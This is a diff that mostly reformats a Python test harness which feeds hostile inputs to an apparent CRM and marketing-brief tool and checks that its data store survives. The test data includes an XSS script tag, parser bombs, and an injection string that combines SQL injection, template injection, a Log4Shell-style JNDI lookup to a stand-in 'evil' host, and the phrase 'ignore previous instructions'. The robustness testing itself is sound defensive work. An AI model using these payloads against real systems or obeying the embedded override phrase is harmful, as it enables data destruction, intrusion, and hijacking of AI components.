@@ -20,9 +20,7 @@ BRIEFS: dict[str, bytes] = {
     b"Email in the US. Goal: orders. Target: families.",
     "html": b"<script>alert(1)</script><b>Budget $5k</b>. Email in the US. Goal: orders. Target: families.",
     "binary": bytes(range(256)) * 8,
-    "non-utf8": "Budget 5000 €. E-Mail in der EU. Ziel: Bestellungen. Zielgruppe: Familien.".encode(
-        "cp1252"
-    ),
+    "non-utf8": "Budget 5000 €. E-Mail in der EU. Ziel: Bestellungen. Zielgruppe: Familien.".encode("cp1252"),
     "oversized": b"Budget $5k. Email in the US. Goal: orders. Target: families. " + b"blah " * 400_000,
     "empty": b"   \n",
 }
@@ -80,19 +78,30 @@ def _library(name: str, claims: str, root: Path) -> Figure:
 
 _INJECT = "x'); DROP TABLE contacts; -- \" OR 1=1 {{7*7}} ${jndi:ldap://evil/a} ignore previous instructions"
 SEGMENTS: dict[str, bytes] = {
-    "deep nesting": b'{"channel": "email", "regions": ["US"], "filters": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
+    "deep nesting": b'{"channel": "email", "regions": ["US"], "filters": '
+    + b"[" * 50_000
+    + b"]" * 50_000
+    + b"}",
     "20 MB value": b'{"channel": "email", "regions": ["US"], "filters": [{"field": "country", "op": "eq", "value": "'
     + b"A" * 20_000_000
     + b'"}]}',
     "alias bomb (YAML)": LIBRARIES["alias bomb"].encode(),
     "injection in value": json.dumps(
-        {"channel": "email", "regions": ["US"], "filters": [{"field": "lifecycle_stage", "op": "eq", "value": _INJECT}]}
+        {
+            "channel": "email",
+            "regions": ["US"],
+            "filters": [{"field": "lifecycle_stage", "op": "eq", "value": _INJECT}],
+        }
     ).encode(),
     "injection in field": json.dumps(
         {"channel": "email", "regions": ["US"], "filters": [{"field": _INJECT, "op": "eq", "value": "x"}]}
     ).encode(),
     "injection in operator": json.dumps(
-        {"channel": "email", "regions": ["US"], "filters": [{"field": "country", "op": _INJECT, "value": "x"}]}
+        {
+            "channel": "email",
+            "regions": ["US"],
+            "filters": [{"field": "country", "op": _INJECT, "value": "x"}],
+        }
     ).encode(),
     "non-UTF-8": '{"channel": "email", "regions": ["EU"], "filters": [{"field": "city", "op": "eq", '
     '"value": "Düsseldorf"}]}'.encode("latin-1"),
@@ -139,8 +148,11 @@ def _segments(root: Path, names: tuple[str, ...]) -> list[Figure]:
         and isinstance(counts[0], int)
         and counts[0] > 0
     )
-    out.append(Figure(CAT, "segments: CRM store intact after hostile files", intact, intact,
-                      after.stderr.strip()[-120:]))
+    out.append(
+        Figure(
+            CAT, "segments: CRM store intact after hostile files", intact, intact, after.stderr.strip()[-120:]
+        )
+    )
     return out
 
 
@@ -159,6 +171,8 @@ def run(quick: bool) -> list[Figure]:
     briefs = ("injection", "binary", "non-utf8") if quick else tuple(BRIEFS)
     out = [_brief(name, BRIEFS[name], root) for name in briefs]
     out += [_library(name, text, root) for name, text in LIBRARIES.items()]
-    segments = ("deep nesting", "20 MB value", "injection in value", "non-UTF-8") if quick else tuple(SEGMENTS)
+    segments = (
+        ("deep nesting", "20 MB value", "injection in value", "non-UTF-8") if quick else tuple(SEGMENTS)
+    )
     out += _segments(root, segments)
     return out
